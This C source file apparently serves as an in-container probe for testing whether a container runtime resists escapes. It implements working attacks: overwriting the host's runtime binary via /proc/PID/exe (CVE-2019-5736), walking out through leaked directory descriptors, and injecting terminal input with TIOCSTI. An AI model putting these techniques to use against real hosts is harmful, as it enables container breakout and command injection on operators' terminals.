// What runs inside of a container and attacks whoever enters it.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

static int known[4096], knownCount;

static int isKnown(int pid) {
  for (int i = 0; i < knownCount; i++)
    if (known[i] == pid) return 1;
  return 0;
}

// Calls `look` with each process but us; `all` with those that were there in the beginning too.
static void eachProcess(int all, void (*look)(int pid)) {
  DIR *proc = opendir("/proc");
  for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;) {
    int pid = atoi(entry->d_name);
    if (pid > 0 && pid != getpid() && (all || !isKnown(pid))) look(pid);
  }
  if (proc != NULL) closedir(proc);
}

static void remember(int pid) {
  if (knownCount < 4096) known[knownCount++] = pid;
}

static int held[64], heldCount, heldReadOnly;
static struct stat heldFiles[64], busybox;

// Keeps the program of a process open, so that it can be written to when nobody executes it any more (CVE-2019-5736).
static void holdProgram(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  struct stat status;
  // Containers' own programs are nobody's secret.
  int isNew = fd >= 0 && heldCount < 64 && fstat(fd, &status) == 0 && status.st_size != busybox.st_size;
  for (int i = 0; i < heldCount && isNew; i++)
    isNew = heldFiles[i].st_ino != status.st_ino || heldFiles[i].st_dev != status.st_dev;
  if (!isNew) {
    if (fd >= 0) close(fd);
    return;
  }
  struct statvfs system;
  int isSealed = (fcntl(fd, F_GET_SEALS) & F_SEAL_WRITE) != 0 && fcntl(fd, F_GET_SEALS) > 0;
  if (isSealed || (fstatvfs(fd, &system) == 0 && (system.f_flag & ST_RDONLY) != 0)) heldReadOnly++;
  heldFiles[heldCount] = status;
  held[heldCount++] = fd;
}

static void overwriteHeld(void) {
  for (int i = 0; i < heldCount; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
    int fd = open(path, O_WRONLY);
    if (fd < 0) continue;
    if (write(fd, "OVERWRITTEN\n", 12) == 12) {
      printf("overwritten\n");
      exit(0);
    }
    close(fd);
  }
}

static int attackPrograms(double seconds) {
  stat("/bin/busybox", &busybox);
  printf("ready\n");
  fflush(stdout);
  for (double end = now() + seconds; now() < end;) {
    eachProcess(1, holdProgram);
    overwriteHeld();
  }
  printf("held %d, read-only %d\n", heldCount, heldReadOnly);
  return 0;
}

static const char *wanted;
static int looked;

// A way up from a folder that is not below our root does not end there.
static void tryFolder(int folder, const char *how) {
  char up[8192] = "";
  for (int i = 0; i < 20; i++) {
    char path[8192];
    snprintf(path, sizeof path, "%s%s", up, wanted + 1);
    int fd = openat(folder, path, O_RDONLY);
    if (fd >= 0) {
      close(fd);
      printf("escaped by %s\n", how);
      return;
    }
    strcat(up, "../");
  }
}

static void tryDescriptors(int pid) {
  char path[64], below[400];
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *list = opendir(path);
  if (list == NULL) return;
  looked++;
  for (struct dirent *entry; (entry = readdir(list)) != NULL;) {
    if (atoi(entry->d_name) <= 2) continue;
    snprintf(below, sizeof below, "%s/%s", path, entry->d_name);
    int folder = open(below, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (folder < 0) continue;
    tryFolder(folder, "a descriptor");
    close(folder);
  }
  closedir(list);
  for (const char *const *each = (const char *const[]){"cwd", "root", NULL}; *each != NULL; each++) {
    snprintf(path, sizeof path, "/proc/%d/%s", pid, *each);
    int folder = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (folder < 0) continue;
    tryFolder(folder, *each);
    close(folder);
  }
}

static int attackDescriptors(double seconds) {
  eachProcess(1, remember);
  printf("ready\n");
  fflush(stdout);
  for (double end = now() + seconds; now() < end;) eachProcess(0, tryDescriptors);
  printf("looked %s\n", looked > 0 ? "at some" : "at none");
  return 0;
}

// Types a line on the terminal of standard input, as if its user did (CVE-2016-10124).
static int typeLine(const char *text) {
  for (; *text != '\0'; text++)
    if (ioctl(0, TIOCSTI, text) != 0) return 1;
  return ioctl(0, TIOCSTI, "\n") != 0;
}

// programs SECONDS | descriptors SECONDS FILE | up FILE | type TEXT; FILE is of the host, with its whole path.
int main(int count, char **words) {
  if (count < 3) return 2;
  wanted = words[count - 1];
  if (strcmp(words[1], "programs") == 0) return attackPrograms(atof(words[2]));
  if (strcmp(words[1], "descriptors") == 0) return attackDescriptors(atof(words[2]));
  if (strcmp(words[1], "type") == 0) return typeLine(words[2]);
  if (strcmp(words[1], "up") != 0) return 2;
  tryFolder(AT_FDCWD, "the working directory");
  for (int fd = 3; fd < 64; fd++) tryFolder(fd, "an own descriptor");
  eachProcess(1, tryDescriptors);
  return 0;
}
